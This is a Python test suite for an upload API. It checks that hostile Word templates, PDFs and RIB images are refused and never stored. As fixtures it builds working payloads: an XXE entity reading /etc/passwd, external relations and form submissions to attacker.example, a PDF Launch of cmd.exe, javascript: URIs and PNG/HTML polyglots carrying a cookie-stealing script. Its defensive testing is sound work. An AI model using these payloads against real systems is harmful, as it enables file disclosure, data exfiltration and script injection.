"""Uploaded content over HTTP (issue 15, point 5), on SQLite and PostgreSQL: templates reaching outside the
document or with a DTD, countersigned copies and RIBs with active PDF content or a PNG header over HTML
are 422s naming what was found, and nothing is stored; a rendering past its bound is a 409, not a hang;
files served back are downloads that nothing can run in."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from cnum_shared.testing import bearer
from conventions.adapters import documents

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"


def template(text: str) -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def rezip(content: bytes, replace: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(output, "w") as target:
        for member in source.infolist():
            target.writestr(
                member, replace.pop(member.filename, None) or source.read(member), zipfile.ZIP_DEFLATED
            )
        for name, data in replace.items():
            target.writestr(name, data, zipfile.ZIP_DEFLATED)
    return output.getvalue()


def with_external_image() -> bytes:
    content = template("Nom : {{ structure.name }}")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rels = archive.read(RELS).decode()
    relationship = (
        f'<Relationship Id="rId900" Type="{OFFICE}/image" Target="http://attacker.example/pixel.png" '
        'TargetMode="External"/>'
    )
    return rezip(
        content, {RELS: rels.replace("</Relationships>", relationship + "</Relationships>").encode()}
    )


def with_dtd_in(part: str) -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return rezip(template("Nom : {{ structure.name }}"), {part: xml})


def upload_template(api, content):
    return api.client.post(
        "/api/v1/templates/convention/versions",
        data={"effective_from": "2026-01-01", "file": (io.BytesIO(content), "modele.docx")},
        headers=bearer("legal"),
        content_type="multipart/form-data",
    )


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            with_external_image(),
            "La partie word/_rels/document.xml.rels déclare la relation rId900 (image, cible "
            "« http://attacker.example/pixel.png ») : une ressource chargée hors du document (relation "
            "externe) est interdite. Le modèle est refusé.",
        ),
        (
            with_dtd_in("word/custom.xml"),
            "L'élément word/custom.xml contient une déclaration DOCTYPE ou ENTITY, qu'un document Word ne "
            "contient jamais : le document est refusé.",
        ),
        (
            with_dtd_in("word/media/notes.dat"),
            "L'élément word/media/notes.dat contient une déclaration DOCTYPE ou ENTITY, qu'un document "
            "Word ne contient jamais : le document est refusé.",
        ),
        (
            template("{{ structure.name * 100000000 }}"),
            "Le rendu d'essai avec des données d'exemple échoue : Opération refusée dans le modèle : une "
            "répétition (*) dépasserait 1 000 000 caractères ou utiliserait un nombre supérieur à 100 000.",
        ),
    ],
    ids=["external-image", "dtd-in-custom-part", "dtd-in-a-part-not-named-xml", "expands-without-bound"],
)
def test_a_hostile_template_is_a_422_naming_the_part_and_nothing_is_stored(api, content, problem):
    refused = upload_template(api, content)

    assert refused.status_code == 422
    assert refused.get_json()["message"] == "Modèle refusé."
    assert refused.get_json()["errors"]["template"] == [problem]
    versions = api.call("GET", "/templates/convention/versions", 200)
    # Only the five shipped editions (shared/parameters/documents.yaml): nothing of the upload.
    assert [version["uploaded_by"] for version in versions] == ["cnum (modèle livré)"] * 5


def test_a_rendering_past_its_bound_at_generation_is_a_409_naming_the_template(api, monkeypatch):
    convention = api.convention(api.structure("974"), signed_on="2021-03-15")
    # The shipped convention writes a few hundred thousand characters of XML: a 1,000-character bound
    # stands for a template whose loops explode only on real data.
    monkeypatch.setattr(documents, "MAX_RENDERED_CHARACTERS", 1000)

    answer = api.client.get(
        f"/api/v1/conventions/{convention['id']}/document?format=docx", headers=bearer("legal")
    )

    assert answer.status_code == 409
    body = answer.get_json()
    assert body["message"].startswith("Le modèle « convention » en vigueur (version ")
    assert body["message"].endswith(
        "ne peut pas produire ce document : Le document rendu dépasserait 0 millions de caractères : "
        "le rendu est interrompu."
    )
    assert api.call("GET", f"/conventions/{convention['id']}/downloads", 200) == []


# --- PDFs: countersigned copies and RIBs ---------------------------------------------------------------


def pdf(prepare=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if prepare:
        prepare(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def link(kind: str, **entries):
    def prepare(writer):
        target = DictionaryObject(
            {NameObject("/S"): NameObject(kind)} | {NameObject(f"/{k}"): v for k, v in entries.items()}
        )
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): target,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return prepare


def upload_copy(api, convention_id, content):
    return api.client.post(
        f"/api/v1/conventions/{convention_id}/signed-copy",
        data={"file": (io.BytesIO(content), "convention.pdf")},
        headers=bearer("legal"),
        content_type="multipart/form-data",
    )


ANNOTATION = "/Root/Pages/Kids[0]/Annots[0]/A"


@pytest.mark.parametrize(
    ("prepare", "found"),
    [
        (
            link("/Launch", F=TextStringObject("cmd.exe")),
            f"lancement d'un programme (Launch) ({ANNOTATION}/S)",
        ),
        (
            link("/SubmitForm", F=TextStringObject("https://attacker.example/")),
            f"envoi de formulaire (SubmitForm) ({ANNOTATION}/S)",
        ),
        (
            link("/GoToR", F=TextStringObject("autre.pdf")),
            f"lien vers un autre fichier (GoToR) ({ANNOTATION}/S)",
        ),
        (link("/GoToE"), f"lien vers un fichier incorporé (GoToE) ({ANNOTATION}/S)"),
        (
            link("/URI", URI=TextStringObject("javascript:app.alert(1)")),
            f"lien javascript: (seuls http, https et mailto sont admis) ({ANNOTATION}/URI)",
        ),
    ],
    ids=["launch", "submit-form", "goto-remote", "goto-embedded", "javascript-uri"],
)
def test_a_countersigned_copy_with_active_content_is_a_422_naming_it_and_nothing_is_kept(
    api, tmp_path, prepare, found
):
    convention = api.convention(api.structure("974"), signed_on="2021-03-15")

    refused = upload_copy(api, convention["id"], pdf(prepare))

    message = f"Le PDF contient du contenu actif : {found}. Il est refusé."
    assert refused.status_code == 422
    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (
        message,
        [message],
    )
    assert api.call("GET", f"/conventions/{convention['id']}/signed-copies", 200) == []
    assert not (tmp_path / "signed-copies").exists()


def ask_rib(api, structure_id, rib, name):
    return api.client.post(
        f"/api/v1/structures/{structure_id}/bank-details",
        data={"iban": "FR7630006000011234567890189", "bic": "AGRIFRPP", "file": (io.BytesIO(rib), name)},
        headers=bearer("legal", sub="alice"),
        content_type="multipart/form-data",
    )


def real_png() -> bytes:
    output = io.BytesIO()
    Image.new("RGB", (4, 4), (255, 255, 255)).save(output, "PNG")
    return output.getvalue()


@pytest.mark.parametrize(
    ("rib", "name", "reason"),
    [
        (
            b"\x89PNG\r\n\x1a\n" + HTML,
            "rib.png",
            "Le fichier commence comme une image PNG mais ne se lit pas entièrement comme telle (format non "
            "reconnu) : il est refusé.",
        ),
        (
            real_png() + HTML,
            "rib.png",
            f"L'image PNG est suivie de {len(HTML)} octets qui n'en font pas partie (fichier hybride) : elle "
            "est refusée.",
        ),
        (
            pdf(link("/GoToR", F=TextStringObject("\\\\attacker.example\\rib.pdf"))),
            "rib.pdf",
            f"Le PDF contient du contenu actif : lien vers un autre fichier (GoToR) ({ANNOTATION}/S). Il est "
            "refusé.",
        ),
    ],
    ids=["png-header-then-html", "png-then-html", "pdf-goto-remote"],
)
def test_a_rib_that_is_not_wholly_what_it_claims_is_a_422_and_nothing_is_kept(
    api, tmp_path, rib, name, reason
):
    structure = api.structure("974")

    refused = ask_rib(api, structure["id"], rib, name)

    message = f"Le RIB doit être un PDF, un PNG ou un JPEG : {reason}"
    assert refused.status_code == 422
    assert (refused.get_json()["message"], refused.get_json()["errors"]["files"]["file"]) == (
        message,
        [message],
    )
    assert api.call("GET", f"/structures/{structure['id']}/bank-details", 200) == []
    assert not (tmp_path / "ribs").exists()


# --- What is served back -------------------------------------------------------------------------------


def test_a_countersigned_copy_is_served_as_a_download_that_nothing_can_run_in(api):
    convention = api.convention(api.structure("974"), signed_on="2021-03-15")
    copy = upload_copy(api, convention["id"], pdf()).get_json()

    served = api.client.get(
        f"/api/v1/conventions/{convention['id']}/signed-copies/{copy['id']}", headers=bearer("legal")
    )

    assert served.status_code == 200
    assert served.headers["Content-Type"] == "application/pdf"
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"


def test_a_generated_docx_is_served_as_a_download_that_nothing_can_run_in(api):
    convention = api.convention(api.structure("974"), signed_on="2021-03-15")

    served = api.client.get(
        f"/api/v1/conventions/{convention['id']}/document?format=docx", headers=bearer("legal")
    )

    assert served.status_code == 200
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
